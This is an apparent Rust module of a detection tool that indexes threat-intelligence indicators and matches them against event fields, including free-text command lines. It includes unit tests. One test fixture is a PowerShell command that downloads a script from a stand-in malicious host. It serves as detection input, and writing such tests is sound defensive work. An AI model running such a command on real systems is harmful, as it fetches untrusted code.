//! Matching every event against every active indicator, at a cost that does not grow with
//! their number.
//!
//! Each kind has its own structure, chosen so one lookup answers for all indicators of that
//! kind: hash maps for exact values (addresses, URLs, hashes, e-mail addresses, subjects); for
//! networks, one map per prefix length of the masked address (a lookup costs one probe per
//! length present, at most 33 for IPv4 and 129 for IPv6, however many networks there are);
//! for domains, the name and each parent domain looked up in turn (a subdomain of an indicated
//! domain is the domain's); and free text (command lines, messages) cut into the pieces a URL,
//! domain or hash can be, each looked up the same ways.
//!
//! **Architecture Invariant:** pure: the time an indicator is judged at is given (the event's
//! time in `hunt`, the time of arrival in `serve`), never read from a clock.

use std::collections::HashMap;
use std::net::IpAddr;

use ipnet::IpNet;
use jiff::Timestamp;
use serde_json::Value;
use wardwatch_core::Event;

use crate::indicator::{self, Indicator, Kind};

/// Where in an event a value was seen (for the alert: "seen as the DNS question").
pub type Field = &'static str;

/// An indicator found in an event.
#[derive(Debug, Clone, PartialEq)]
pub struct Hit<'a> {
    pub indicator: &'a Indicator,
    /// The event field the value was seen in.
    pub field: Field,
    /// The value as the event shows it (an address inside the indicated network, a subdomain
    /// of the indicated domain).
    pub observed: String,
}

/// Indicators by masked network address, for one prefix length.
type NetTable = HashMap<IpAddr, Vec<u32>>;

/// The active indicators, indexed for matching.
#[derive(Default)]
pub struct IndicatorSet {
    all: Vec<Indicator>,
    ips: HashMap<IpAddr, Vec<u32>>,
    /// `(prefix length, IPv6?)` → masked network address → indicators.
    nets: Vec<((u8, bool), NetTable)>,
    domains: HashMap<String, Vec<u32>>,
    exact: HashMap<(Kind, String), Vec<u32>>,
}

impl IndicatorSet {
    pub fn new(indicators: Vec<Indicator>) -> IndicatorSet {
        let mut set = IndicatorSet {
            all: indicators,
            ..IndicatorSet::default()
        };
        let mut nets: HashMap<(u8, bool), NetTable> = HashMap::new();
        for (i, ind) in set.all.iter().enumerate() {
            let i = i as u32;
            match ind.kind {
                Kind::Ip => {
                    if let Ok(ip) = ind.value.parse::<IpAddr>() {
                        set.ips.entry(ip).or_default().push(i);
                    }
                }
                Kind::Cidr => {
                    if let Ok(net) = ind.value.parse::<IpNet>() {
                        nets.entry((net.prefix_len(), net.addr().is_ipv6()))
                            .or_default()
                            .entry(net.network())
                            .or_default()
                            .push(i);
                    }
                }
                Kind::Domain => {
                    set.domains.entry(ind.value.clone()).or_default().push(i);
                }
                k => set.exact.entry((k, ind.value.clone())).or_default().push(i),
            }
        }
        set.nets = nets.into_iter().collect();
        set.nets
            .sort_by_key(|((len, v6), _)| (*v6, std::cmp::Reverse(*len)));
        set
    }

    pub fn len(&self) -> usize {
        self.all.len()
    }

    pub fn is_empty(&self) -> bool {
        self.all.is_empty()
    }

    pub fn indicators(&self) -> &[Indicator] {
        &self.all
    }

    /// Indicators naming `ip`, itself or a network holding it.
    pub fn ip(&self, ip: IpAddr) -> impl Iterator<Item = u32> + '_ {
        let exact = self.ips.get(&ip).into_iter().flatten().copied();
        let nets = self
            .nets
            .iter()
            .filter(move |((_, v6), _)| *v6 == ip.is_ipv6())
            .filter_map(move |((len, _), map)| {
                let net = IpNet::new(ip, *len).ok()?.trunc();
                map.get(&net.network())
            })
            .flatten()
            .copied();
        exact.chain(nets)
    }

    /// Indicators naming `name` or a domain above it.
    pub fn domain(&self, name: &str) -> Vec<u32> {
        let name = name.trim_end_matches('.').to_ascii_lowercase();
        let mut out = Vec::new();
        let mut rest = name.as_str();
        loop {
            if let Some(ids) = self.domains.get(rest) {
                out.extend(ids);
            }
            match rest.split_once('.') {
                Some((_, parent)) if parent.contains('.') => rest = parent,
                _ => break,
            }
        }
        out
    }

    fn exact(&self, kind: Kind, value: &str) -> &[u32] {
        self.exact
            .get(&(kind, value.to_string()))
            .map_or(&[][..], Vec::as_slice)
    }

    /// Indicators whose value appears in free `text` (a command line, a message): the text is
    /// cut at characters no URL, domain or hash holds, and each piece is looked up as a URL
    /// (and its host), a hash or a domain (and its parents). Measured: an Aho-Corasick
    /// automaton over every domain, URL and hash cost 4.5× more per command line at 100,000
    /// indicators than at 100 (the automaton outgrows the caches); these lookups stay flat.
    fn in_text(&self, text: &str) -> Vec<u32> {
        let mut out = Vec::new();
        let cut = |c: char| c.is_whitespace() || "\"'<>()[]{},;|`^\\".contains(c);
        for piece in text.split(cut) {
            let t = piece.trim_matches(|c: char| ".:=".contains(c));
            if t.len() < 4 {
                continue;
            }
            if t.contains("://") {
                if let Ok(url) = indicator::url(t) {
                    out.extend(self.exact(Kind::Url, &url));
                    if let Some(host) = indicator::url_host(&url) {
                        match host.parse::<IpAddr>() {
                            Ok(ip) => out.extend(self.ip(ip)),
                            Err(_) => out.extend(self.domain(host)),
                        }
                    }
                }
                continue;
            }
            if let Some(kind) = Kind::hash_of_len(t.len())
                && t.bytes().all(|b| b.is_ascii_hexdigit())
            {
                out.extend(self.exact(kind, &t.to_ascii_lowercase()));
                continue;
            }
            // `host.example/path`, `user@host.example`, `host.example:443`.
            let host = t.split('/').next().unwrap_or(t);
            let host = host.rsplit('@').next().unwrap_or(host);
            let host = host.split(':').next().unwrap_or(host);
            if host.contains('.') && !host.starts_with('.') {
                match host.parse::<IpAddr>() {
                    Ok(ip) => out.extend(self.ip(ip)),
                    Err(_) => out.extend(self.domain(host)),
                }
            }
        }
        out
    }

    /// Every indicator active at `at` that `event` shows, once per indicator.
    pub fn match_event(&self, event: &Event, at: Timestamp) -> Vec<Hit<'_>> {
        if self.all.is_empty() {
            return Vec::new();
        }
        let mut found: Vec<(u32, Field, String)> = Vec::new();
        let ecs = &event.ecs;
        for (field, value) in [
            ("source.ip", ecs.source_ip.as_deref()),
            ("destination.ip", ecs.destination_ip.as_deref()),
            ("source.address", ecs.source_address.as_deref()),
        ] {
            if let Some(ip) = value.and_then(|v| v.trim().parse::<IpAddr>().ok()) {
                found.extend(self.ip(ip).map(|i| (i, field, ip.to_string())));
            }
        }
        if let Some(q) = ecs.dns_question_name.as_deref() {
            found.extend(
                self.domain(q)
                    .into_iter()
                    .map(|i| (i, "dns.question.name", q.to_string())),
            );
        }
        if let Some(u) = ecs.url_full.as_deref()
            && let Ok(url) = indicator::url(u)
        {
            found.extend(
                self.exact(Kind::Url, &url)
                    .iter()
                    .map(|i| (*i, "url.full", u.to_string())),
            );
            if let Some(host) = indicator::url_host(&url) {
                match host.parse::<IpAddr>() {
                    Ok(ip) => found.extend(self.ip(ip).map(|i| (i, "url.domain", host.into()))),
                    Err(_) => found.extend(
                        self.domain(host)
                            .into_iter()
                            .map(|i| (i, "url.domain", host.to_string())),
                    ),
                }
            }
        }
        for (kind, field, value) in raw_values(&event.raw) {
            let value = match kind {
                Kind::Subject => indicator::subject_key(&value),
                _ => value.to_ascii_lowercase(),
            };
            found.extend(
                self.exact(kind, &value)
                    .iter()
                    .map(|i| (*i, field, value.clone())),
            );
            if kind == Kind::Email
                && let Some((_, dom)) = value.split_once('@')
            {
                found.extend(
                    self.domain(dom)
                        .into_iter()
                        .map(|i| (i, field, value.clone())),
                );
            }
        }
        for (field, text) in [
            ("process.command_line", ecs.process_command_line.as_deref()),
            ("message", ecs.message.as_deref()),
        ] {
            if let Some(t) = text {
                found.extend(
                    self.in_text(t)
                        .into_iter()
                        .map(|i| (i, field, t.to_string())),
                );
            }
        }
        let mut seen = std::collections::HashSet::new();
        found
            .into_iter()
            .filter(|(i, _, _)| seen.insert(*i))
            .map(|(i, field, observed)| Hit {
                indicator: &self.all[i as usize],
                field,
                observed,
            })
            .filter(|h| h.indicator.active_at(at))
            .collect()
    }
}

/// Hashes, mail addresses and subjects in an event's own fields, whatever its layout: Sysmon's
/// `Hashes` (`SHA256=…,MD5=…`), Zeek's and Suricata's `md5`/`sha1`/`sha256`, ECS
/// `file.hash.*` and `email.*`.
fn raw_values(raw: &Value) -> Vec<(Kind, Field, String)> {
    let mut out = Vec::new();
    walk(raw, 0, None, &mut out);
    out
}

fn walk(v: &Value, depth: usize, parent: Option<&str>, out: &mut Vec<(Kind, Field, String)>) {
    if depth > 5 {
        return;
    }
    let Value::Object(map) = v else {
        return;
    };
    for (key, value) in map {
        let k = key.to_ascii_lowercase();
        match (k.as_str(), value) {
            ("hashes", Value::String(s)) => {
                // Sysmon: `SHA1=…,MD5=…,SHA256=…,IMPHASH=…`.
                for part in s.split(',') {
                    let digest = part.split_once('=').map_or(part, |(_, d)| d).trim();
                    if let Some(kind) = Kind::hash_of_len(digest.len())
                        && digest.bytes().all(|b| b.is_ascii_hexdigit())
                    {
                        out.push((kind, "file.hash", digest.to_string()));
                    }
                }
            }
            ("md5" | "sha1" | "sha256" | "sha512", Value::String(s)) => {
                if let Some(kind) = Kind::hash_of_len(s.len()) {
                    out.push((kind, "file.hash", s.clone()));
                }
            }
            ("subject", Value::String(s)) if parent == Some("email") => {
                out.push((Kind::Subject, "email.subject", s.clone()));
            }
            ("address", _)
                if matches!(
                    parent,
                    Some("from" | "sender" | "reply_to" | "to" | "return_path")
                ) =>
            {
                let items: Vec<&str> = match value {
                    Value::String(s) => vec![s.as_str()],
                    Value::Array(a) => a.iter().filter_map(Value::as_str).collect(),
                    _ => Vec::new(),
                };
                for a in items {
                    out.push((
                        Kind::Email,
                        "email.address",
                        a.trim_matches(['<', '>']).into(),
                    ));
                }
            }
            (_, Value::Object(_)) => walk(value, depth + 1, Some(key.as_str()), out),
            _ => {}
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use wardwatch_core::SourceKind;

    fn set(items: &[(Kind, &str)]) -> IndicatorSet {
        IndicatorSet::new(
            items
                .iter()
                .map(|(k, v)| Indicator::new(*k, v, "partner").unwrap())
                .collect(),
        )
    }

    fn event(raw: Value) -> Event {
        Event::new(SourceKind::Json, Timestamp::UNIX_EPOCH, raw)
    }

    fn values(hits: &[Hit<'_>]) -> Vec<(String, Field)> {
        hits.iter()
            .map(|h| (h.indicator.value.clone(), h.field))
            .collect()
    }

    #[test]
    fn addresses_networks_domains_and_urls_match_in_their_fields() {
        let s = set(&[
            (Kind::Ip, "198.51.100.7"),
            (Kind::Cidr, "203.0.113.0/24"),
            (Kind::Cidr, "2001:db8:bad::/48"),
            (Kind::Domain, "evil.example"),
            (Kind::Url, "http://cdn.example/payload.bin"),
        ]);
        let mut e = event(Value::Null);
        e.ecs.source_ip = Some("10.1.2.3".into());
        e.ecs.destination_ip = Some("203.0.113.77".into());
        e.ecs.dns_question_name = Some("a.b.EVIL.example.".into());
        e.ecs.url_full = Some("HTTP://cdn.example/payload.bin".into());
        let at = Timestamp::UNIX_EPOCH;
        assert_eq!(
            values(&s.match_event(&e, at)),
            vec![
                ("203.0.113.0/24".into(), "destination.ip"),
                ("evil.example".into(), "dns.question.name"),
                ("http://cdn.example/payload.bin".into(), "url.full"),
            ]
        );
        e.ecs.destination_ip = Some("2001:db8:bad:1::5".into());
        e.ecs.dns_question_name = Some("notevil.example".into());
        e.ecs.url_full = Some("https://198.51.100.7/x".into());
        assert_eq!(
            values(&s.match_event(&e, at)),
            vec![
                ("2001:db8:bad::/48".into(), "destination.ip"),
                ("198.51.100.7".into(), "url.domain"),
            ]
        );
    }

    #[test]
    fn free_text_hashes_and_mail_fields_match_on_boundaries() {
        let s = set(&[
            (Kind::Domain, "evil.example"),
            (Kind::Sha256, &"ab".repeat(32)),
            (Kind::Md5, "44d88612fea8a8f36de82e1278abb02f"),
            (Kind::Email, "ceo@spoofed.example"),
            (Kind::Subject, "Invoice overdue"),
            (Kind::Domain, "phish.example"),
        ]);
        let at = Timestamp::UNIX_EPOCH;
        let mut e = event(Value::Null);
        e.ecs.process_command_line =
            Some("powershell iwr https://dl.EVIL.example/a.ps1 -OutFile x".into());
        assert_eq!(values(&s.match_event(&e, at)).len(), 1);
        for clean in [
            "ping evil.example.org",
            "nslookup myevil.example",
            "copy evil.examples",
        ] {
            e.ecs.process_command_line = Some(clean.into());
            assert!(s.match_event(&e, at).is_empty(), "{clean}");
        }
        let sysmon = event(serde_json::json!({"Event": {"EventData": {
            "Hashes": format!("MD5=44D88612FEA8A8F36DE82E1278ABB02F,SHA256={}", "AB".repeat(32))}}}));
        assert_eq!(s.match_event(&sysmon, at).len(), 2);
        let mail = event(serde_json::json!({"email": {
            "from": {"address": ["CEO@spoofed.example"]}, "subject": "  INVOICE   overdue",
            "reply_to": {"address": "x@phish.example"}}}));
        assert_eq!(
            values(&s.match_event(&mail, at)),
            vec![
                ("ceo@spoofed.example".into(), "email.address"),
                ("invoice overdue".into(), "email.subject"),
                ("phish.example".into(), "email.address"),
            ]
        );
    }

    #[test]
    fn expired_revoked_and_future_indicators_do_not_match() {
        let t = |s: &str| s.parse::<Timestamp>().unwrap();
        let mut ind = Indicator::new(Kind::Ip, "198.51.100.7", "p").unwrap();
        ind.valid_until = Some(t("2026-06-01T00:00:00Z"));
        let mut revoked = Indicator::new(Kind::Ip, "198.51.100.8", "p").unwrap();
        revoked.revoked = true;
        let s = IndicatorSet::new(vec![ind, revoked]);
        let mut e = event(Value::Null);
        e.ecs.source_ip = Some("198.51.100.7".into());
        assert_eq!(s.match_event(&e, t("2026-05-31T00:00:00Z")).len(), 1);
        assert!(s.match_event(&e, t("2026-06-02T00:00:00Z")).is_empty());
        e.ecs.source_ip = Some("198.51.100.8".into());
        assert!(s.match_event(&e, t("2026-05-31T00:00:00Z")).is_empty());
    }
}
